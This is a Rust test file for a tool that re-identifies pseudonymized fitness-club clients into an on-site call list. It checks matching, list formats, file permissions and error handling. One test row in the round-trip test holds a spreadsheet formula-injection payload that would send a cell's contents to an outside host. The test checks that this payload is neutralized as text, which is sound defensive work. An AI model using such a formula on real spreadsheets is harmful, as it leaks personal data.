//! `clm-pseudonymize reidentify`: a consultant's pseudonym list back into a call list, on
//! site. A round trip through a synthetic club (export, pids from the bundle, list, call
//! list), the shapes of lists a consultant sends, and the errors.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use arrow_array::cast::AsArray;
use arrow_array::RecordBatch;
use chrono::NaiveDate;
use clm_core::bundle::Bundle;
use clm_core::keys::{DataKey, PseudonymKey};
use clm_core::pid::{Domain, Pseudonymizer};
use clm_pseudonymize::{export, ExportOptions};

const BOM: &[u8] = b"\xEF\xBB\xBF";

fn as_of() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 1).unwrap()
}

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_clm-pseudonymize"));
    c.env_remove("CLM_PSEUDONYM_KEY").env_remove("CLM_DATA_KEY");
    c
}

fn run(cmd: &mut Command) -> (i32, String, String) {
    let o = cmd.output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).to_string(),
        String::from_utf8_lossy(&o.stderr).to_string(),
    )
}

fn reidentify(mapping: &Path, kp: &Path, pids: &Path, out: &Path) -> (i32, String, String) {
    run(bin()
        .arg("reidentify")
        .arg("--mapping")
        .arg(mapping)
        .arg("--pseudonym-key")
        .arg(kp)
        .arg("--pids")
        .arg(pids)
        .arg("--out")
        .arg(out))
}

/// A call list: checks the BOM, reads `;`-separated UTF-8.
fn read_call_list(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    assert!(
        bytes.starts_with(BOM),
        "the call list starts with a UTF-8 BOM"
    );
    let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
    assert!(text.contains("\r\n"), "CRLF line ends, for Excel");
    let mut r = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes());
    let headers = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|x| x.unwrap().iter().map(String::from).collect())
        .collect();
    (headers, rows)
}

/// A CSV text with the given delimiter (fields quoted where needed).
fn csv_text(delim: u8, rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(delim)
        .from_writer(Vec::new());
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.into_inner().unwrap()
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

struct SourceClient {
    name: String,
    phone: String,
    email: String,
}

#[test]
fn round_trip_through_a_synthetic_club() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let src = dir.join("export");
    clm_synth::generate(&clm_synth::Config {
        clients: 300,
        seed: 11,
        as_of: as_of(),
        out: src.clone(),
        encoding: clm_synth::Encoding::Utf8,
    })
    .unwrap();
    let (kp, kd) = clm_core::keys::keygen(&dir.join("keys")).unwrap();
    let mapping = src.join("mapping.toml");
    export(&ExportOptions {
        mapping: mapping.clone(),
        pseudonym_key: Some(kp.clone()),
        data_key: Some(kd.clone()),
        as_of: Some(as_of()),
        out: dir.join("bundle"),
        redact: false,
        progress: false,
        since: None,
        allow_empty: false,
    })
    .unwrap();

    // The consultant's side: pids from the bundle.
    let b = Bundle::open(&dir.join("bundle"), &DataKey::load(&kd).unwrap()).unwrap();
    let mut bundle_pids = Vec::new();
    for batch in b.read_table("clients") {
        let batch: RecordBatch = batch.unwrap();
        let col = batch
            .column_by_name("client_pid")
            .unwrap()
            .as_string::<i32>();
        bundle_pids.extend(col.iter().map(|v| v.unwrap().to_string()));
    }
    assert!(bundle_pids.len() > 250, "{}", bundle_pids.len());

    // The club's side, worked out independently: client id → pid → source row.
    let p = Pseudonymizer::new(&PseudonymKey::load(&kp).unwrap());
    let mut source: HashMap<String, SourceClient> = HashMap::new();
    let mut r = clm_core::source::SourceReader::open(
        &src.join("clients.csv"),
        clm_core::mapping::Encoding::Auto,
        b';',
    )
    .unwrap();
    assert_eq!(
        &r.headers()[..4],
        ["Код клиента", "ФИО", "Телефон", "E-mail"]
    );
    let mut rec = csv::StringRecord::new();
    while r.next_record(&mut rec).unwrap().is_some() {
        source.insert(
            p.pid(Domain::Client, rec[0].trim()),
            SourceClient {
                name: rec[1].to_string(),
                phone: rec[2].to_string(),
                email: rec[3].to_string(),
            },
        );
    }
    assert!(bundle_pids.iter().all(|x| source.contains_key(x)));
    // The synthetic phones come in mixed formats; the call list must keep them so.
    assert!(source.values().any(|c| c.phone.starts_with("+7 (")));
    assert!(source.values().any(|c| c.phone.starts_with("8-")));

    // The list: every 7th client, two pids of nobody, one malformed, one repeated, one
    // action a spreadsheet would run as a formula.
    let fake1 = "0123456789abcdef0123456789abcdef".to_string();
    let fake2 = "fedcba9876543210fedcba9876543210".to_string();
    let malformed = bundle_pids[3].to_uppercase();
    let mut list: Vec<Vec<String>> =
        vec![vec!["client_pid".into(), "stage".into(), "action".into()]];
    let row = |pid: &str, stage: &str, action: &str| vec![pid.into(), stage.into(), action.into()];
    let chosen: Vec<&String> = bundle_pids.iter().step_by(7).collect();
    for (i, pid) in chosen.iter().enumerate() {
        list.push(row(pid, "inactive", "позвонить, предложить заморозку"));
        if i == 2 {
            list.push(row(&fake1, "lapsed", "вернуть"));
        }
        if i == 4 {
            list.push(row(&malformed, "renewal_due", "продлить"));
        }
        if i == 6 {
            list.push(row(&fake2, "lapsed", "=WEBSERVICE(\"http://x/?\"&E2)"));
        }
    }
    list.push(row(chosen[1], "inactive", "ещё раз"));
    let malformed_row = list.iter().position(|r| r[0] == malformed).unwrap() + 1;
    let repeated_row = list.len();
    let first_row = 3; // chosen[1] is the second data row: row 3, the header being row 1

    let mut bytes = BOM.to_vec();
    bytes.extend(csv_text(b',', &list));
    let pids_file = dir.join("inactive.csv");
    std::fs::write(&pids_file, &bytes).unwrap();
    let out = dir.join("calls.csv");
    let (code, stdout, stderr) = reidentify(&mapping, &kp, &pids_file, &out);
    assert_eq!(code, 0, "{stdout}\n{stderr}");

    let n = chosen.len() + 1;
    assert!(stdout.contains("comma-separated"), "{stdout}");
    assert!(
        stdout.contains(&format!(
            "found {n}, not found 2, malformed pid 1, repeated pid 1"
        )),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("in row {malformed_row};")),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!(
            "row {repeated_row} has the pid of row {first_row}"
        )),
        "{stdout}"
    );
    assert!(stdout.contains("1 cell of the list began like a spreadsheet formula"));
    assert!(stdout.contains("PERSONAL DATA") && stdout.contains("must stay on site"));
    // Counts and row numbers only: no pid the list got wrong, no personal value.
    let all = format!("{stdout}{stderr}");
    for secret in [&malformed, &fake1, &fake2] {
        assert!(!all.contains(secret.as_str()), "{all}");
    }
    for c in source.values() {
        assert!(!all.contains(&c.name), "{all}");
    }

    let (headers, rows) = read_call_list(&out);
    assert_eq!(
        headers,
        [
            "client_pid",
            "stage",
            "action",
            "full_name",
            "phone",
            "email",
            "found"
        ]
    );
    assert_eq!(
        rows.len(),
        list.len() - 1,
        "every row of the list, none added"
    );
    let (mut found, mut not_found) = (0, 0);
    for (got, asked) in rows.iter().zip(&list[1..]) {
        assert_eq!(got[0], asked[0], "the list's order is kept");
        assert_eq!(got[1], asked[1]);
        if asked[2].starts_with('=') {
            assert_eq!(
                got[2],
                format!("'{}", asked[2]),
                "a formula is written as text"
            );
        } else {
            assert_eq!(got[2], asked[2]);
        }
        if asked[0] == malformed {
            assert_eq!(got[3..], ["", "", "", "malformed pid"]);
        } else if let Some(c) = source.get(&asked[0]) {
            assert_eq!(got[3], c.name);
            // As written, not its digits; "+7 ..." begins like a formula, so it is text.
            assert_eq!(
                got[4],
                clm_pseudonymize::csv_cells::neutralize(&c.phone),
                "the phone as written, not its digits"
            );
            assert_eq!(got[5], c.email);
            assert_eq!(got[6], "yes");
            found += 1;
        } else {
            assert_eq!(got[3..], ["", "", "", "no"]);
            not_found += 1;
        }
    }
    assert_eq!((found, not_found), (n, 2));
    #[cfg(unix)]
    assert_eq!(mode(&out), 0o600, "the call list is private");

    // The same list `;`-separated, without a BOM, gives the same call list.
    let pids2 = dir.join("inactive-semicolon.csv");
    std::fs::write(&pids2, csv_text(b';', &list)).unwrap();
    let out2 = dir.join("calls2.csv");
    let (code, stdout, stderr) = reidentify(&mapping, &kp, &pids2, &out2);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("semicolon-separated"), "{stdout}");
    assert_eq!(std::fs::read(&out).unwrap(), std::fs::read(&out2).unwrap());

    // Never over an existing file.
    let before = std::fs::read(&out).unwrap();
    let (code, _, stderr) = reidentify(&mapping, &kp, &pids2, &out);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("exists") && stderr.contains("never overwrites"),
        "{stderr}"
    );
    assert_eq!(std::fs::read(&out).unwrap(), before);

    // Another key finds nobody, and says what to check.
    let (other, _) = clm_core::keys::keygen(&dir.join("other-keys")).unwrap();
    let out3 = dir.join("calls3.csv");
    let (code, stdout, _) = reidentify(&mapping, &other, &pids_file, &out3);
    assert_eq!(code, 0);
    assert!(stdout.contains("found 0,"), "{stdout}");
    assert!(stdout.contains("no pid of the list was found"), "{stdout}");
    let (_, rows) = read_call_list(&out3);
    assert!(rows.iter().all(|r| r[6] != "yes"));
}

// --- a small hand-made club ---------------------------------------------------------

const MAPPING: &str = r#"
[source]
delimiter = ";"

[tables.clients]
file = "clients.csv"
[tables.clients.fields]
client_id = "Код"
last_name = "Фамилия"
first_name = "Имя"
middle_name = "Отчество"
phone = { column = "Телефон", normalize = "digits" }
passport = "Паспорт"
branch = "Филиал"
"#;

// Client ids with white space around them (the export trims), a repeated id, a row that
// cannot be read, a null marker for a phone.
const CLIENTS: &str = "Код;Фамилия;Имя;Отчество;Телефон;Паспорт;Филиал\n\
\x200001 ;Иванова;Мария;Петровна;+7 (912) 345-67-89;4500 123456;Центр\n\
0002;Петров;Пётр;Петрович;8 912 345-67-80;4500 123457;Центр\n\
0003;Сидоров;Сидор\n\
0004;Кузнецова;Анна;Ильинична;—;;Север\n\
0002;Петров;Пётр;Петрович;8 912 000-00-00;;Север\n";

struct Hand {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    kp: PathBuf,
}

fn hand() -> Hand {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().to_path_buf();
    std::fs::write(dir.join("mapping.toml"), MAPPING).unwrap();
    std::fs::write(dir.join("clients.csv"), CLIENTS).unwrap();
    let (kp, _) = clm_core::keys::keygen(&dir.join("keys")).unwrap();
    Hand { _tmp: tmp, dir, kp }
}

fn pid(kp: &Path, id: &str) -> String {
    Pseudonymizer::new(&PseudonymKey::load(kp).unwrap()).pid(Domain::Client, id)
}

#[test]
fn name_parts_phones_as_written_and_a_cp1251_list() {
    let h = hand();
    let text = format!(
        "client_pid;stage;score;заметка\n{};renewal_due;-3;продлить\n{};inactive;7;\n\n{};lapsed;0;вернуть\n{};inactive;1;\n",
        pid(&h.kp, "0004"),
        pid(&h.kp, "0001"),
        pid(&h.kp, "0002"),
        pid(&h.kp, "0003"),
    );
    let (cp, _, _) = encoding_rs::WINDOWS_1251.encode(&text);
    let list = h.dir.join("list.csv");
    std::fs::write(&list, &cp).unwrap();
    let out = h.dir.join("calls.csv");
    let (code, stdout, stderr) = reidentify(&h.dir.join("mapping.toml"), &h.kp, &list, &out);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    let (headers, rows) = read_call_list(&out);
    // Only the direct fields useful for a call: no passport.
    assert_eq!(
        headers,
        [
            "client_pid",
            "stage",
            "score",
            "заметка",
            "last_name",
            "first_name",
            "middle_name",
            "phone",
            "found"
        ]
    );
    assert_eq!(rows.len(), 4, "the blank line is no row");
    assert_eq!(
        rows[0][1..],
        [
            "renewal_due",
            "-3",
            "продлить",
            "Кузнецова",
            "Анна",
            "Ильинична",
            "",
            "yes"
        ]
    );
    assert_eq!(
        rows[1][4..],
        ["Иванова", "Мария", "Петровна", "'+7 (912) 345-67-89", "yes"]
    );
    // 0002 twice in the source: the first row, and a note.
    assert_eq!(
        rows[2][4..],
        ["Петров", "Пётр", "Петрович", "8 912 345-67-80", "yes"]
    );
    // 0003's row cannot be read: not found, and the note says why it may be.
    assert_eq!(rows[3][4..], ["", "", "", "", "no"]);
    assert!(
        stdout.contains("found 3, not found 1, malformed pid 0, repeated pid 0"),
        "{stdout}"
    );
    assert!(stdout.contains("1 row that could not be read"), "{stdout}");
    assert!(
        stdout.contains("1 pid of the list belongs to more than one row"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("of the list began like a spreadsheet formula"),
        "numbers are not formulas: {stdout}"
    );
    assert!(
        stdout.contains("1 cell of the source clients table (names, phones, e-mails) began like a spreadsheet formula"),
        "the phone +7 ...: {stdout}"
    );
    assert!(!stdout.contains("Петров"), "{stdout}");
}

#[test]
fn workbook_sources_are_read_too() {
    use rust_xlsxwriter::Workbook;
    let h = hand();
    let mut wb = Workbook::new();
    let s = wb.add_worksheet();
    s.set_name("Клиенты").unwrap();
    for (i, c) in ["Код", "ФИО", "Телефон", "E-mail"].iter().enumerate() {
        s.write_string(0, i as u16, *c).unwrap();
    }
    s.write_string(1, 0, "007").unwrap();
    s.write_string(1, 1, "Иванова Мария Петровна").unwrap();
    s.write_string(1, 2, "+7 (912) 345-67-89").unwrap();
    s.write_string(1, 3, "Maria@Example.com").unwrap();
    s.write_number(2, 0, 8.0).unwrap();
    s.write_string(2, 1, "Петров Пётр Петрович").unwrap();
    s.write_number(2, 2, 89_123_456_780.0).unwrap();
    wb.save(h.dir.join("club.xlsx")).unwrap();
    std::fs::write(
        h.dir.join("xlsx.toml"),
        "[tables.clients]\nfile = 'club.xlsx'\nsheet = 'Клиенты'\n[tables.clients.fields]\n\
         client_id = 'Код'\nfull_name = 'ФИО'\nphone = { column = 'Телефон', normalize = 'digits' }\n\
         email = { column = 'E-mail', normalize = 'casefold' }\n",
    )
    .unwrap();
    let list = h.dir.join("list.csv");
    std::fs::write(
        &list,
        format!("client_pid\n{}\n{}\n", pid(&h.kp, "8"), pid(&h.kp, "007")),
    )
    .unwrap();
    let out = h.dir.join("calls.csv");
    let (code, stdout, stderr) = reidentify(&h.dir.join("xlsx.toml"), &h.kp, &list, &out);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    let (headers, rows) = read_call_list(&out);
    assert_eq!(
        headers,
        ["client_pid", "full_name", "phone", "email", "found"]
    );
    assert_eq!(
        rows[0][1..],
        ["Петров Пётр Петрович", "89123456780", "", "yes"]
    );
    assert_eq!(
        rows[1][1..],
        [
            "Иванова Мария Петровна",
            "'+7 (912) 345-67-89",
            "Maria@Example.com",
            "yes"
        ]
    );
}

#[test]
fn errors_name_what_is_wrong_and_write_nothing() {
    let h = hand();
    let mapping = h.dir.join("mapping.toml");
    let out = h.dir.join("calls.csv");
    let p1 = pid(&h.kp, "0001");

    // No client_pid column: the message names the columns there are.
    let list = h.dir.join("nopid.csv");
    std::fs::write(&list, format!("pid,stage,action\n{p1},inactive,call\n")).unwrap();
    let (code, _, stderr) = reidentify(&mapping, &h.kp, &list, &out);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("no client_pid column"), "{stderr}");
    assert!(stderr.contains(r#""pid", "stage", "action""#), "{stderr}");
    assert!(!out.exists());

    // A list without a header row: the pid is not repeated.
    let list = h.dir.join("noheader.csv");
    std::fs::write(&list, format!("{p1};inactive\n")).unwrap();
    let (code, _, stderr) = reidentify(&mapping, &h.kp, &list, &out);
    assert_eq!(code, 1);
    assert!(stderr.contains("header row"), "{stderr}");
    assert!(!stderr.contains(&p1), "{stderr}");

    // No key.
    let good = h.dir.join("good.csv");
    std::fs::write(&good, format!("client_pid\n{p1}\n")).unwrap();
    let (code, _, stderr) = run(bin()
        .arg("reidentify")
        .arg("--mapping")
        .arg(&mapping)
        .arg("--pids")
        .arg(&good)
        .arg("--out")
        .arg(&out));
    assert_eq!(code, 1);
    assert!(stderr.contains("no pseudonymization key"), "{stderr}");
    // A key typed on the command line.
    let (code, _, stderr) = reidentify(&mapping, Path::new(&"ab".repeat(32)), &good, &out);
    assert_eq!(code, 1);
    assert!(stderr.contains("looks like a key"), "{stderr}");
    assert!(!stderr.contains(&"ab".repeat(32)));
    // A key others may read.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let loose = h.dir.join("loose.key");
        std::fs::copy(&h.kp, &loose).unwrap();
        std::fs::set_permissions(&loose, std::fs::Permissions::from_mode(0o644)).unwrap();
        let (code, _, stderr) = reidentify(&mapping, &loose, &good, &out);
        assert_eq!(code, 1);
        assert!(stderr.contains("chmod 600"), "{stderr}");
    }

    // Bad mappings: a typo, a mapping with nothing to call, a missing column.
    let bad = h.dir.join("bad.toml");
    std::fs::write(&bad, MAPPING.replace("last_name", "lastname")).unwrap();
    let (code, _, stderr) = reidentify(&bad, &h.kp, &good, &out);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("lastname") && stderr.contains("not a field of clients"),
        "{stderr}"
    );
    std::fs::write(
        &bad,
        "[tables.clients]\nfile = 'clients.csv'\n[tables.clients.fields]\nclient_id = 'Код'\nbranch = 'Филиал'\n",
    )
    .unwrap();
    let (code, _, stderr) = reidentify(&bad, &h.kp, &good, &out);
    assert_eq!(code, 1);
    assert!(stderr.contains("maps no name, phone or e-mail"), "{stderr}");
    std::fs::write(&bad, MAPPING.replace("\"Телефон\"", "\"Тел.\"")).unwrap();
    let (code, _, stderr) = reidentify(&bad, &h.kp, &good, &out);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("\"Тел.\"") && stderr.contains("not in the header"),
        "{stderr}"
    );
    let (code, _, stderr) = reidentify(&h.dir.join("none.toml"), &h.kp, &good, &out);
    assert_eq!(code, 1);
    assert!(stderr.contains("no such file"), "{stderr}");
    assert!(!out.exists(), "nothing written on an error");

    // A list column that the call list would add.
    let clash = h.dir.join("clash.csv");
    std::fs::write(&clash, format!("client_pid;phone\n{p1};x\n")).unwrap();
    let (code, _, stderr) = reidentify(&mapping, &h.kp, &clash, &out);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("already has a column \"phone\""),
        "{stderr}"
    );

    // Usage errors.
    let (code, _, stderr) = run(bin()
        .arg("reidentify")
        .arg("--mapping")
        .arg(&mapping)
        .arg("--pids")
        .arg(&good));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--out"), "{stderr}");
    assert!(!out.exists());

    // And the good list works.
    let (code, stdout, stderr) = reidentify(&mapping, &h.kp, &good, &out);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("found 1, not found 0"), "{stdout}");
}
